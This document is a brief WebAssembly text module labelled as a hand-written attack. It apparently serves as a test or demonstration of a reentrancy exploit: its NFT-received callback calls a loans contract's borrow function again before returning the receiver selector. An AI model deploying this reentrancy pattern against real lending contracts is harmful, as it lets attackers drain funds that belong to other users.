;; The attack by hand.

(module $attacker
  (import "contract:loans" "borrow" (func $loans.borrow (param i64)))
  (memory $memory (export "memory") 1)

  (func $main (export "main"))

  (func $on_nft_received (export "on_nft_received") (param $id i64) (result i32)
    (call $loans.borrow (i64.const 60))
    (return (i32.const 0x150b7a02))))
